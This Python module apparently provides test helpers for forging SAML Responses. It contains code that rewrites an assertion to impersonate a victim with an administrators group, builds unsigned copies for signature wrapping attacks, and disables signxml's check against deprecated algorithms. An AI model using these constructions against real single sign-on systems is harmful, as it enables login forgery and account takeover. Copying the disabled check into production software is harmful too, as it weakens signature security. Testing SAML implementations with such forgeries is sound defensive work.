"""What those who spoil a Response have in hand, and the tools they share."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from functools import wraps

from cryptography import x509
from lxml import etree
from signxml import XMLSigner

from helpers.providers.saml import uris
from helpers.providers.saml.keys import KeyPair, make_key_pair, read_certificate
from helpers.providers.saml.safe_xml import copy_of, element, parse, qname, serialize, text_of
from helpers.providers.saml.signing import strip_signature

Tamper = Callable[[bytes, "Context"], bytes]
OnTree = Callable[[etree._Element, "Context"], etree._Element]


class NotApplicable(ValueError):
    """This construction does not fit this Response, or needs a key that is not at hand."""


@dataclass(frozen=True)
class Context:
    """What the spoiler knows.

    `certificate` is the directory's public one and `stranger` a key of the attacker's own.
    `victim` is who the attacker wants to be. Only the directory itself has `signer`; `sign` says
    what it signs: "assertion", "response" or "both". `previous` is a Response sent before.
    """

    certificate: x509.Certificate
    stranger: KeyPair
    victim: str = "bob@example.com"
    now: datetime = field(default_factory=lambda: datetime.now(UTC))
    signer: KeyPair | None = None
    sign: str = "assertion"
    encryption_algorithm: str = "aes256-gcm"
    previous: bytes | None = None

    @classmethod
    def from_metadata(cls, metadata: str | bytes, victim: str = "bob@example.com") -> Context:
        """What anybody on the network has: the directory's metadata and a key made at home."""
        root = parse(metadata.encode() if isinstance(metadata, str) else metadata)
        path = f".//{qname('ds:X509Certificate')}"
        certificate = read_certificate(text_of(root.find(path)))
        return cls(certificate, make_key_pair("stranger.example.net"), victim)


def on_tree(function: OnTree) -> Tamper:
    """Make a function over the parsed Response one over bytes. What it is given is a copy."""

    @wraps(function)
    def over_bytes(response_xml: bytes, context: Context) -> bytes:
        return serialize(function(parse(response_xml), context))

    return over_bytes


def assertion_in(response: etree._Element) -> etree._Element:
    """The assertion of a Response. NotApplicable when there is none, or it is encrypted."""
    found = response.find(qname("saml:Assertion"))
    if found is None:
        raise NotApplicable("the Response has no readable assertion")
    return found


def signature_of(message: etree._Element) -> etree._Element:
    """An element's own signature. NotApplicable when it has none."""
    found = message.find(qname("ds:Signature"))
    if found is None:
        raise NotApplicable(f"the {etree.QName(message).localname} is not signed by itself")
    return found


def name_id_in(assertion: etree._Element) -> etree._Element:
    """The NameID of an assertion. NotApplicable when there is none."""
    found = assertion.find(f"{qname('saml:Subject')}/{qname('saml:NameID')}")
    if found is None:
        raise NotApplicable("the assertion has no NameID")
    return found


def attribute_in(assertion: etree._Element, name: str) -> etree._Element:
    """An attribute of an assertion by its Name. NotApplicable when there is none."""
    for found in assertion.iter(qname("saml:Attribute")):
        if found.get("Name") == name:
            return found
    raise NotApplicable(f"the assertion has no attribute {name}")


def say_victim(assertion: etree._Element, context: Context) -> None:
    """Make an assertion speak of the victim, as a member of a group called administrators."""
    name_id_in(assertion).text = context.victim
    for value in attribute_in(assertion, uris.CLAIM_EMAIL):
        value.text = context.victim
    groups = attribute_in(assertion, uris.CLAIM_GROUP)
    element(groups, "saml:AttributeValue", "administrators")


def evil_copy(assertion: etree._Element, context: Context) -> etree._Element:
    """An unsigned copy with another ID that speaks of the victim."""
    copied = copy_of(assertion)
    strip_signature(copied)
    copied.set("ID", f"_evil{assertion.get('ID', '')}")
    say_victim(copied, context)
    return copied


class AnySigner(XMLSigner):
    """A signer that also signs with what is no longer safe."""

    def check_deprecated_methods(self) -> None:
        """Let everything pass."""
